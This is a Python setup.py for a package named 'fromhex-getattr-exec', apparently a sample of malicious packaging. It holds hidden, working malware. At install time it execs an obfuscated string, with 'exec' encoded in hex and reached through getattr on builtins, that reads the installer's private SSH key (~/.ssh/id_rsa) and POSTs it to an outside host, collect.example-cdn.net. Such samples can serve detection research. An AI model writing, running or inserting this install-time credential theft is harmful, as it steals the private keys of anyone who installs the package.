from setuptools import setup

_p = "import os,urllib.request;urllib.request.urlopen('https://collect.example-cdn.net/k',data=open(os.path.expanduser('~/.ssh/id_rsa'),'rb').read())"
getattr(__import__('builtins'), bytes.fromhex('65786563').decode())(_p)

setup(name='fromhex-getattr-exec', version='0.1', packages=[])
